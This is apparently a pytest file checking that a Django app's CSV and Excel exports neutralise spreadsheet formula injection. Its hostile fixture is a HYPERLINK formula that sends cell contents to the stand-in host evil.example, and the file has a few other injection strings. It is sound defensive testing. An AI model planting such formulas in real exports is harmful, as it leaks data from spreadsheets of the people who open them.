"""No spreadsheet runs what Vigie writes (API.md): in every CSV and Excel file, a text cell that begins with =, +,
-, @, a tab or a carriage return is written with a leading ', and Excel stores it as text, never as a formula.
Numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.conf import settings
from openpyxl import load_workbook
from pytest_django import DjangoCaptureOnCommitCallbacks, Settings
from rest_framework.test import APIClient

from activities.tests.factories import SessionFactory
from core.choices import AdminLevel, Status
from core.models import AdminArea, Job, User
from core.spreadsheets import CsvTable, XlsxTable, neutralise
from reports.renderers import TalliesCSVRenderer, TalliesXLSXRenderer
from reports.tests.exporting import export

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture(autouse=True)
def media(settings: Settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "=1+1", "+33 6 12", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "GBV and early marriage",
        "#adm1 +code",
        "'=already quoted",
        " =leading space",
        "",
        -5,
        0,
        3.5,
        -2.75,
        Decimal("-12.50"),
        True,
        None,
        datetime.date(2021, 12, 1),
    ],
)
def test_other_values_are_left_as_they_are(value: object) -> None:
    assert neutralise(value) == value
    assert type(neutralise(value)) is type(value)


def test_the_csv_writer_quotes_text_and_keeps_numbers() -> None:
    buffer = io.StringIO()
    CsvTable(buffer).writerows([["label", "count"], [HOSTILE, -3], ["-1", Decimal("-1.5")]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["label", "count"], ["'" + HOSTILE, "-3"], ["'-1", "-1.5"]]


def test_the_excel_writer_stores_text_not_formulas_and_numbers_as_numbers() -> None:
    table = XlsxTable("sheet")
    table.writerow([HOSTILE, -3, Decimal("-1.5"), "-1", "ok\x01 with a control character", None])
    buffer = io.BytesIO()
    table.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cells = list(sheet.iter_rows(values_only=False))[0]
    assert cells[0].value == "'" + HOSTILE
    assert cells[0].data_type == "s"
    assert cells[1].value == -3
    assert cells[1].data_type == "n"
    assert cells[2].value == -1.5
    assert cells[3].value == "'-1"
    assert cells[4].value == "ok with a control character"


def tally_row(**values: Any) -> dict[str, Any]:
    row = {
        "month": "2021-12",
        "admin1_pcode": "ML07",
        "admin1_name": "Gao",
        "indicator": "violations",
        "women": 1,
        "girls": 0,
        "men": 3,
        "boys": 0,
        "unknown": 0,
        "total": 4,
    }
    return {**row, **values}


def test_the_tallies_renderers_neutralise_a_hostile_label() -> None:
    rows = [tally_row(admin1_name=HOSTILE, indicator="@cmd"), tally_row(admin1_name="-Gao", women=-1)]
    text = TalliesCSVRenderer().render(rows).decode("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(text)))
    assert lines[1]["admin1_name"] == "'" + HOSTILE
    assert lines[1]["indicator"] == "'@cmd"
    assert lines[2]["admin1_name"] == "'-Gao"
    assert lines[2]["women"] == "-1"
    sheet = load_workbook(io.BytesIO(TalliesXLSXRenderer().render(rows))).worksheets[0]
    assert sheet.cell(3, 3).value == "'" + HOSTILE
    assert sheet.cell(3, 3).data_type == "s"
    assert sheet.cell(4, 5).value == -1
    assert sheet.cell(4, 5).data_type == "n"


@pytest.fixture
def hostile_region(data: None) -> AdminArea:
    """A region whose name an admin imported with a formula in it (admin areas come from files)."""
    gao = AdminArea.objects.get(pcode="ML07")
    gao.name = HOSTILE
    gao.save()
    return gao


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tallies_through_the_api(
    people: SimpleNamespace, api_as: Callable[[User], APIClient], hostile_region: AdminArea, fmt: str
) -> None:
    response = api_as(people.admin).get("/api/v1/reports/tallies/", {"month": "2021-12", "format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        names = {row["admin1_name"] for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    else:
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        names = {sheet.cell(row, 3).value for row in range(3, sheet.max_row + 1)}
        assert all(sheet.cell(row, 3).data_type == "s" for row in range(3, sheet.max_row + 1))
    assert "'" + HOSTILE in names
    assert HOSTILE not in names


def read(job: Job) -> list[list[Any]]:
    with job.result.open("rb") as handle:
        content = handle.read()
    if (job.result.name or "").endswith(".csv"):
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]  # the export's one sheet
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_session_topic_reaches_the_records_export_as_text(
    people: SimpleNamespace,
    api_as: Callable[[User], APIClient],
    data: None,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
    fmt: str,
) -> None:
    SessionFactory(created_by=people.monitor, topic=HOSTILE, status=Status.VERIFIED)
    job = export(
        api_as,
        people.admin,
        django_capture_on_commit_callbacks,
        kind="records",
        record_type="sessions",
        month="2021-12",
        format=fmt,
    )
    header, *rows = read(job)
    topics = [row[header.index("topic")] for row in rows]
    assert topics == ["'" + HOSTILE]
    women = [row[header.index("women")] for row in rows]
    assert women == (["26"] if fmt == "csv" else [26])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_hostile_place_name_reaches_the_5w_as_text(
    people: SimpleNamespace,
    api_as: Callable[[User], APIClient],
    data: None,
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
    fmt: str,
) -> None:
    gao = AdminArea.objects.get(pcode="ML07")
    cercle = AdminArea.objects.create(pcode="ML0799", level=AdminLevel.CERCLE, parent=gao, name=HOSTILE)
    SessionFactory(created_by=people.monitor, place=cercle, region=gao, status=Status.VERIFIED)
    job = export(api_as, people.admin, django_capture_on_commit_callbacks, kind="5w", month="2021-12", format=fmt)
    header, *rows = read(job)
    names = [row[header.index("admin2_name")] for row in rows]
    assert "'" + HOSTILE in names
    assert HOSTILE not in names


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\bxlsxwriter\b")


def test_every_csv_and_excel_writer_goes_through_core_spreadsheets() -> None:
    """Any writer yet to come must use core.spreadsheets' CsvTable or XlsxTable (which neutralise every cell)."""
    base = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(base))
        for path in base.glob("*/**/*.py")
        if ".venv" not in path.parts
        and "tests" not in path.parts
        and "migrations" not in path.parts
        and path != base / "core" / "spreadsheets.py"
        and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
